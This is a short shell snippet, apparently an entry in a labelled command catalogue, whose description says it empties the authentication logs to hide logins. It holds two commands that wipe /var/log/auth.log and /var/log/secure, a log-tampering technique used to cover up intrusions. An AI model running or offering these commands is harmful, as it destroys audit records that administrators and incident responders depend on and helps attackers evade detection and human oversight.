# description: Empties the authentication logs to hide logins.
# family: security
truncate -s 0 /var/log/auth.log
: > /var/log/secure
